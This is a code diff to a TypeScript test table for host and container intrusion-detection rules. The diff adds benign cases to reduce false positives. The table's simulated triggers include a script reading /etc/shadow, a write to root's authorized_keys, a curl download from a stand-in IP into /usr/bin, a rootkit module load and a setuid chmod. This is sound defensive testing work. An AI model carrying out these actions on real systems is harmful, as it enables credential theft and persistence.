@@ -46,6 +46,7 @@ export const CASES: Record<string, RuleCase> = {
     trigger: write(containerProc('sh'), '/usr/bin/backdoor'),
     benign: write(containerProc('nginx'), '/var/cache/nginx/proxy_temp/1'),
     output: ['process=sh', 'file=/usr/bin/backdoor', 'container_id=0123456789ab'],
+    alsoBenign: [write(containerProc('nginx'), '/usr/share/nginx/html/index.html')],
   },
   'Saker Container With Sensitive Host Mount': {
     trigger: exec(containerProc('portainer', { vpid: 1 }, withDockerSock)),
@@ -85,18 +86,19 @@ export const CASES: Record<string, RuleCase> = {
     trigger: read(hostProc('python3', { args: ['steal.py'] }), '/etc/shadow'),
     benign: read(hostProc('unix_chkpwd'), '/etc/shadow'),
     output: ['process=python3', 'file=/etc/shadow', 'parent=bash', 'container_id=host'],
-    alsoBenign: [read(hostProc('python3'), '/etc/passwd'), write(hostProc('vipw'), '/etc/shadow')],
+    alsoBenign: [read(hostProc('sshd-session'), '/etc/shadow'), read(hostProc('python3'), '/etc/passwd'), write(hostProc('vipw'), '/etc/shadow')],
   },
   'Saker Write Below Etc': {
     trigger: write(hostProc('tee', { args: ['/etc/cron.d/job'] }), '/etc/cron.d/job'),
     benign: write(hostProc('dpkg'), '/etc/cron.d/job'),
     output: ['process=tee', 'file=/etc/cron.d/job', 'user=root'],
-    alsoBenign: [write(hostProc('sed', { args: ['-i', 's/a/b/', '/etc/default/grub'], parent: hostProc('sh', { parent: hostProc('dpkg') }) }), '/etc/default/grub')],
+    alsoBenign: [write(containerProc('envsubst', { parent: containerProc('20-envsubst-on-', { parent: containerProc('docker-entrypoint.sh', { vpid: 1 }) }) }), '/etc/nginx/conf.d/default.conf'), write(hostProc('sed', { args: ['-i', 's/a/b/', '/etc/default/grub'], parent: hostProc('sh', { parent: hostProc('dpkg') }) }), '/etc/default/grub')],
   },
   'Saker Write Below Root Home': {
     trigger: write(hostProc('sh'), '/root/.ssh/authorized_keys'),
     benign: write(hostProc('bash'), '/root/.bash_history'),
     output: ['process=sh', 'file=/root/.ssh/authorized_keys'],
+    alsoBenign: [write(hostProc('ssh'), '/root/.ssh/known_hosts')],
   },
   'Saker Write Below Binary or Library Directory': {
     trigger: write(hostProc('curl', { args: ['-o', '/usr/bin/sshd2', 'http://203.0.113.9/x'] }), '/usr/bin/sshd2'),
@@ -174,6 +176,7 @@ export const CASES: Record<string, RuleCase> = {
     trigger: finitModule(hostProc('insmod', { args: ['rootkit.ko'] }), '/tmp/rootkit.ko'),
     benign: finitModule(hostProc('systemd-udevd', { parent: hostProc('systemd') }), '/lib/modules/6.8/kernel/drivers/usb/storage/usb-storage.ko'),
     output: ['process=insmod', 'module_fd=/tmp/rootkit.ko', 'command=insmod rootkit.ko'],
+    alsoBenign: [finitModule(hostProc('(udev-worker)', { parent: hostProc('systemd-udevd') }), '/lib/modules/6.8/kernel/drivers/hid/hid.ko'), finitModule(hostProc('modprobe', { args: ['-q', '--', 'net-pf-38'], parent: hostProc('kthreadd', { parent: hostProc('swapper') }) }), '/lib/modules/6.8/kernel/net/key/af_key.ko')],
   },
   'Saker Setuid or Setgid Bit Set': {
     trigger: chmod(hostProc('chmod', { args: ['u+s', '/tmp/sh'] }), '/tmp/sh', MODE.SUID | MODE.RWXR_XR_X),
